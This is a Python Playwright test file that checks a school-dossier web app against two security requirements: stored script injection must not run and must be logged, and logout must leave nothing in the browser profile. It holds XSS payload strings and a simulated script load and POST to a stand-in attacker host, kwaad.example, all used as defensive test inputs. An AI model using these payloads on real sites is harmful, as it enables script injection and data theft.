"""SEC-2 and SEC-13 in a real browser: what somebody smuggles in does not run, and after logging out nothing is left."""

from __future__ import annotations

import json
import os
from pathlib import Path
from uuid import uuid4

from playwright.async_api import Browser, Page, async_playwright, expect

from infra import clock, people
from infra.settings import settings
from services.netwerk.contract import SessieOpenen
from tests.flows.intake_dossier import school
from tests.stack import Stack, eventually

SMOKKEL = (
    "<script>window.kwaad=1</script><img src=x onerror='window.kwaad=2'><svg onload='window.kwaad=3'></svg>"
    "<a href='javascript:window.kwaad=4'>x</a><b hx-on:click='window.kwaad=5'>y</b>"
)


async def _cookie(stack: Stack, sub: str) -> dict[str, object]:
    account = people.accounts()[sub]
    geopend = await stack.web.ask(
        "netwerk",
        SessieOpenen(
            opdracht=uuid4(), issuer=settings().oidc_issuer, subject=sub, naam=account.naam, email=account.email,
            mfa=True, user_agent="veilig", bevestigd_op=clock.echt(),
        ),
    )  # fmt: skip
    return {"name": "s", "value": geopend.token, "url": settings().app_url, "httpOnly": True}


async def _kwaad(page: Page) -> object:
    return await page.evaluate("window.kwaad ?? null")


async def test_sec_2_wat_iemand_binnensmokkelt_draait_niet(browser: Browser, stack: Stack):
    """Typed by a person it is text. And if it ever got in as code, the policy of the page stops it and says so."""
    aanvraag = await school(stack).begin()
    await aanvraag.bewaren({"schoolloopbaan": SMOKKEL})
    context = await browser.new_context()
    try:
        await context.add_cookies([await _cookie(stack, "iris")])
        page = await context.new_page()
        await page.goto(f"{settings().app_url}/aanvragen/{aanvraag.id}")
        assert "window.kwaad=1" in await page.content()
        assert await _kwaad(page) is None

        await page.evaluate(
            """() => {
                window.gemeld = [];
                const meld = e => window.gemeld.push(e.effectiveDirective);
                document.addEventListener('securitypolicyviolation', meld);
            }"""
        )
        await page.evaluate(
            """html => {
                document.body.insertAdjacentHTML('beforeend', `<div id=smokkel>${html}</div>`);
                const script = document.createElement('script');
                script.textContent = 'window.kwaad = 6';
                document.body.append(script);
                const ver = document.createElement('script');
                ver.src = 'https://kwaad.example/x.js';
                document.body.append(ver);
                const kader = document.createElement('iframe');
                kader.srcdoc = '<script>parent.kwaad = 7</scr' + 'ipt>';
                document.body.append(kader);
                setTimeout(() => htmx.process(document.getElementById('smokkel')), 0);
            }""",
            SMOKKEL,
        )
        for plek in ("#smokkel a", "#smokkel b"):
            await page.locator(plek).click()
        await page.wait_for_function("window.gemeld.filter(d => d.startsWith('script-src')).length >= 3")
        gemeld = set(await page.evaluate("window.gemeld"))
        assert {"script-src-elem", "script-src-attr"} <= gemeld
        assert await _kwaad(page) is None
        verzonden = await page.evaluate(
            "fetch('https://kwaad.example/', {method: 'POST', body: 'x'}).then(() => 'ja', () => 'nee')"
        )
        assert verzonden == "nee"

        async def gemeld_bij_ons() -> bool:
            # The last line may be half written while we read.
            *heel, _ = (settings().var / "log/web.log").read_text().split("\n")
            regels = [json.loads(regel) for regel in heel if regel.startswith("{")]
            ons = [r for r in regels if r.get("event") == "beleid geschonden" and r["route"] == "/aanvragen/…"]
            gevonden = {(r["soort"], r["reden"]) for r in ons}
            verwacht = {("script-src-elem", "inline"), ("script-src-attr", "inline"), ("connect-src", "kwaad.example")}
            return gevonden >= verwacht

        await eventually(gemeld_bij_ons, wat="de meldingen van de browser in het logboek staan")
        assert str(aanvraag.id) not in "".join(
            regel for regel in (settings().var / "log/web.log").read_text().splitlines() if "geschonden" in regel
        )
    finally:
        await context.close()


async def test_sec_13_na_het_uitloggen_blijft_er_niets_achter(stack: Stack, tmp_path: Path):
    """Back button, storage, caches, and every file of the profile on the disk: nothing of the child."""
    kanarie = f"kanarie{uuid4().hex}"
    aanvraag = await school(stack).begin()
    await aanvraag.bewaren({"schoolloopbaan": kanarie})
    profiel, basis = tmp_path / "profiel", settings().app_url
    async with async_playwright() as playwright:
        context = await playwright.chromium.launch_persistent_context(
            str(profiel), executable_path=os.environ.get("CHROMIUM") or None
        )
        try:
            await context.add_cookies([await _cookie(stack, "iris")])
            page = await context.new_page()
            await page.goto(f"{basis}/aanvragen/{aanvraag.id}")
            assert kanarie in await page.content()
            await page.goto(f"{basis}/aanvragen")
            await page.get_by_role("button", name="Iris Bakker").click()
            await page.get_by_role("button", name="Uitloggen").click()
            await page.wait_for_url(lambda url: url.endswith("/uitgelogd") or "/session/end" in url)
            await page.goto(f"{basis}/uitgelogd")
            for _ in range(4):
                await page.go_back(wait_until="load")
                await expect(page.locator("body")).not_to_contain_text(kanarie)  # waits for a redirect to end
                await page.wait_for_load_state("load")
                assert kanarie not in await page.content(), page.url
            await page.goto(f"{basis}/aanvragen/{aanvraag.id}")
            await expect(page.locator("body")).not_to_contain_text(kanarie)
            await page.goto(f"{basis}/uitgelogd")
            over = await page.evaluate(
                """async () => [localStorage.length, sessionStorage.length, (await indexedDB.databases()).length,
                    (await caches.keys()).length, (await navigator.serviceWorker.getRegistrations()).length,
                    document.cookie]"""
            )
            assert over == [0, 0, 0, 0, 0, ""]
            assert [c["name"] for c in await context.cookies(basis) if c["name"] in ("s", "f")] == []
            # The control: what is kept on purpose is found below, so that finding nothing means something.
            await page.evaluate("localStorage.setItem('controle', 'blijftstaan7261')")
        finally:
            await context.close()
    inhoud = {pad: pad.read_bytes() for pad in profiel.rglob("*") if pad.is_file()}
    assert any(
        b"blijftstaan7261" in bytes_ or "blijftstaan7261".encode("utf-16-le") in bytes_ for bytes_ in inhoud.values()
    )
    spoor = kanarie.encode()
    gevonden = [
        str(pad.relative_to(profiel))
        for pad, bytes_ in inhoud.items()
        if spoor in bytes_ or kanarie.encode("utf-16-le") in bytes_
    ]
    assert gevonden == []
